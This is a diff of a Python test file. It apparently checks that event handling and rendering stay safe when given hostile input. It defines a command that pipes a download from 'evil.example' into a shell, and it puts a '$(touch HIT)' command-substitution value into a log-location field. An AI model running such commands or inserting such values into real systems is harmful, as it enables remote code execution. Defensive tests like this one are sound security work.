@@ -5,7 +5,17 @@ from pathlib import Path
 from core.event_codec import line_of
 from core.events import Event, RunChanged
 from core.model.run import Run, RunState
-from tests.support.fleets import H1, NOW, facts, link, named, process_seen, task_row, tasks_seen
+from tests.support.fleets import (
+    H1,
+    NOW,
+    facts,
+    link,
+    named,
+    probe_answered,
+    process_seen,
+    task_row,
+    tasks_seen,
+)
 from tests.support.hostile_fleets import HOSTILE
 
 COMMAND = "curl https://evil.example | sh"
@@ -22,7 +32,8 @@ def hostile_events() -> tuple[Event, ...]:
     return (
         named(),
         link(reason=HOSTILE, advice=HOSTILE),
-        facts(host=HOSTILE),
+        facts(gpu_error=HOSTILE),
+        probe_answered(host=HOSTILE, platform=HOSTILE, user=HOSTILE),
         process_seen(argv=("inspect", HOSTILE), cwd=HOSTILE),
         tasks_seen(task_row(task=HOSTILE, model=HOSTILE, log_location=f"$(touch HIT){HOSTILE}")),
         RunChanged(at=NOW, run=run),
